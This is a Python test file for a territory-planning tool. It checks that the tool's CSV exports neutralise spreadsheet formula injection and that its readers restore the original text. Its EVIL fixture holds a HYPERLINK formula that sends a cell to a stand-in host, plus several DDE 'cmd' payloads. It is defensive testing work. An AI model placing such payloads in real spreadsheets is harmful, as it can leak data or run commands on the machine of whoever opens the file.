"""Every CSV a person opens is injection-safe with the one rule of ``io/spreadsheet_cells.py``
(the rule of crm/), and the tool's own readers get the original text back.

The case: the six accounts of ``test_bad_inputs`` with names, ids and an extra column that a
spreadsheet would run (web-form leads are attacker-controlled)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from territory_opt.cli import main
from territory_opt.io.plan_folder import read_plan_folder
from territory_opt.io.spreadsheet_cells import (
    FORMULA_STARTS,
    neutralise,
    neutralise_table,
    restore,
    restore_table,
)
from tests.io.test_bad_inputs import make_case

EVIL = {"a1": '"=HYPERLINK(""http://x.example/?""&A1,""click"")"', "a2": "+cmd|' /C calc'!A0",
        "a3": "@SUM(1+1)*cmd|' /C calc'!A0", "a4": "-2+3+cmd|' /C calc'!A0",
        "a5": "\"\tTAB\"", "a6": "'=already quoted"}
EVIL_TEXT = {"a1": '=HYPERLINK("http://x.example/?"&A1,"click")',
             "a2": "+cmd|' /C calc'!A0", "a3": "@SUM(1+1)*cmd|' /C calc'!A0",
             "a4": "-2+3+cmd|' /C calc'!A0", "a5": "TAB",  # cells are stripped
             "a6": "'=already quoted"}


@given(st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text
    # only plain numbers keep a leading sign
    assert not neutralise(text).startswith(FORMULA_STARTS) or neutralise(text) == text


def test_tables_keep_numbers_and_missing_values() -> None:
    table = pd.DataFrame({"lon": [-83.5, 1.0], "id": ["=1", None], "n": [-1, 2],
                          "flag": [True, False]})
    out = neutralise_table(table)
    assert out["lon"].tolist() == [-83.5, 1.0] and out["n"].tolist() == [-1, 2]
    assert out["id"].tolist()[0] == "'=1" and out["id"].isna().tolist() == [False, True]
    assert restore_table(out.astype(str))["id"].tolist()[0] == "=1"


def evil_case(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    scenario = make_case(folder)
    path = folder / "accounts.csv"
    lines = path.read_text(encoding="utf-8").rstrip("\n").split("\n")
    out = [lines[0] + ",lead_source"]
    for line in lines[1:]:
        account_id, name, rest = line.split(",", 2)
        out.append(f"{account_id},{EVIL[account_id]},{rest},=1+2")
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    reps = folder / "reps.csv"
    reps.write_text(reps.read_text(encoding="utf-8").replace("R2,Bob", "R2,@Bob"),
                    encoding="utf-8")
    return scenario


def formula_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as f:
        # a cell a spreadsheet would run: a formula start, and not a plain number
        return [cell for row in csv.reader(f) for cell in row
                if cell.startswith(FORMULA_STARTS) and neutralise(cell) != cell]


def test_plan_folder_csvs_are_neutralised_and_read_back(tmp_path: Path) -> None:
    scenario = evil_case(tmp_path)
    out = tmp_path / "plan"
    res = CliRunner().invoke(main, ["run", str(scenario), "--out", str(out), "--quiet"])
    assert res.exit_code == 0, res.output
    csvs = sorted(out.rglob("*.csv"))
    assert {p.name for p in csvs} >= {"assignments.csv", "reps.csv",
                                      "salesforce_account_owner.csv"}
    for path in csvs:
        assert formula_cells(path) == [], path
    raw = pd.read_csv(out / "assignments.csv", dtype=str, keep_default_na=False)
    assert raw.loc[raw["account_id"] == "a2", "name"].item() == "'+cmd|' /C calc'!A0"
    assert set(raw["lead_source"]) == {"'=1+2"}
    assert (raw["lon"].str.startswith("-") | ~raw["lon"].str.startswith("'")).all()
    plan = read_plan_folder(out)  # the tool's reader: the original text
    names = dict(zip(plan.assignments["account_id"], plan.assignments["name"], strict=True))
    assert names == EVIL_TEXT
    assert set(plan.assignments["lead_source"]) == {"=1+2"}
    assert "@Bob" in set(plan.reps["name"])


def test_export_and_report_read_the_original_text(tmp_path: Path) -> None:
    scenario = evil_case(tmp_path)
    out = tmp_path / "plan"
    assert CliRunner().invoke(main, ["run", str(scenario), "--out", str(out),
                                     "--quiet"]).exit_code == 0
    res = CliRunner().invoke(main, ["export", str(out), "--crm", "salesforce-territory",
                                    "--all", "--territory-model-id", "0MA1",
                                    "--territory-type-id", "0M51", "--out",
                                    str(tmp_path / "sf")])
    assert res.exit_code == 0, res.output
    territories = pd.read_csv(tmp_path / "sf" / "Territory2.csv", dtype=str)
    assert "'@Bob" in set(territories["Name"])  # neutralised once, not twice
    res = CliRunner().invoke(main, ["report", str(out)])
    assert res.exit_code == 0, res.output
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "+cmd|&#x27; /C calc&#x27;!A0" in html or "+cmd|' /C calc'!A0" in html
    assert "&#x27;+cmd" not in html and "'+cmd" not in html


def test_segment_and_measure_csvs_are_neutralised(tmp_path: Path) -> None:
    scenario = evil_case(tmp_path)
    tiers = tmp_path / "tiers.csv"
    res = CliRunner().invoke(main, ["segment", str(scenario), "--out", str(tiers)])
    assert res.exit_code == 0, res.output
    folder = tmp_path / "in"
    (folder / "activities.csv").write_text(
        "activity_id,account_id,rep_id,date,type,minutes\n"
        "=t1,a1,R1,2026-01-05,visit,60\n@t2,a9,R2,2026-01-06,phone,15\n", encoding="utf-8")
    measure = tmp_path / "measure"
    res = CliRunner().invoke(main, ["measure", str(scenario), "--activities",
                                    str(folder / "activities.csv"), "--out", str(measure)])
    assert res.exit_code == 0, res.output
    for path in [tiers, *sorted(measure.glob("*.csv"))]:
        assert formula_cells(path) == [], path
    excluded = pd.read_csv(measure / "excluded_rows.csv", dtype=str)
    assert excluded["row"].tolist() == ["3"]  # a whole number, not 3.0
    assert excluded["value"].tolist() == ["a9"]


@pytest.mark.slow
def test_comparison_csvs_are_neutralised(tmp_path: Path) -> None:
    scenario = evil_case(tmp_path)
    out = tmp_path / "compare"
    res = CliRunner().invoke(main, ["compare", str(scenario), "--out", str(out), "--workers",
                                    "1", "--quiet", "--time-limit", "5"])
    assert res.exit_code == 0, res.output
    csvs = sorted(out.rglob("*.csv"))
    assert len(csvs) >= 5
    for path in csvs:
        assert formula_cells(path) == [], path
